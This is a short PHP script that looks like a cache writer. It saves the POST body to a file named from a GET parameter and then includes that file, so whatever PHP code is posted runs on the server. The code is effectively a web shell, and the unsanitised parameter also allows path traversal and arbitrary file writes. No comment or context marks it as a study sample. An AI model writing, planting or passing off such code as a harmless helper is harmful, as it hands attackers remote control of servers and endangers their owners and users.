<?php
file_put_contents('cache/' . $_GET['k'] . '.txt', $_POST['c']);
include 'cache/' . $_GET['k'] . '.txt';
